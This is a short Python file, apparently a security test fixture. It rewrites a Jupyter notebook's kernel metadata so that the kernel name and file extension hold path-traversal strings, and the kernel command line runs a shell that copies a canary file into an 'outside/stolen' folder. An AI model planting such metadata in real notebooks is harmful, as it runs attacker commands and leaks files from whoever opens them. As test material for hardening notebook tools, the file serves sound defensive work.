"""The notebook asks for a shell as its kernel, by name, language, path and command line."""


def change(notebook, folder):
    root = folder.parents[4]
    command = ["/bin/sh", "-c", f"cp {root}/home/canary.txt {root}/outside/stolen; cat"]
    notebook.metadata["kernelspec"] = {
        "name": "../../../../bin/sh",
        "display_name": "bash",
        "language": "bash",
        "argv": command,
        "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner", "config": {"argv": command}}},
    }
    notebook.metadata["language_info"] = {"name": "R", "file_extension": "/../../x", "mimetype": "text/x-sh"}
